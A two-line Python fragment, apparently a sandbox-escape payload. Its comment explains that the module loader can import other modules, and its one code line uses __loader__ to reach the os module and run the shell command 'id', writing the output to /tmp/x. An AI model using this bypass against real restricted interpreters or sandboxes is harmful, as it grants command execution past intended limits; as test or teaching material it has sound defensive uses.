# why: the module's own loader imports others
__loader__.load_module("os").system("id > /tmp/x")
